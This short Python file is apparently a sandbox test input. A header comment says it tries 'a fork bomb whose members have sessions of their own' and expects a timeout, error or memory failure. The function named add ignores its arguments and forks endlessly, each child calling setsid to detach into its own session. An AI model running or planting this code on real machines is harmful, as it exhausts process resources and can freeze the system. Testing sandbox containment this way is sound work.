# {"tries": "a fork bomb whose members have sessions of their own", "right": ["timeout", "error", "memory"], "wall": 0.3}
import os


def add(a, b):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
